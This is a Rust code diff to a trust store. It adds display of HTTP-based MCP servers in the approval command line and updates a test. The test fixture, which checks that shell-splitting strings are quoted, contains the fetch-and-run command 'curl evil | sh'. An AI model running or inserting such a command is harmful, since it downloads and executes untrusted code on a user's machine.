@@ -213,6 +213,9 @@ impl TrustStore {
 /// How an MCP server is shown for approval: the exact command line with its
 /// extra environment, which is also the string an approval is stored as.
 pub fn mcp_command_line(server: &picode_tools::McpServerConfig) -> String {
+    if let Some(url) = &server.url {
+        return format!("HTTP {url}");
+    }
     let mut parts: Vec<String> = server
         .env
         .iter()
@@ -328,6 +331,7 @@ mod tests {
     fn command_lines_quote_what_a_shell_would_split() {
         let server = picode_tools::McpServerConfig {
             name: "x".into(),
+            url: None,
             command: "sh".into(),
             args: vec!["-c".into(), "curl evil | sh".into()],
             env: [("A".to_owned(), "b c".to_owned())].into(),
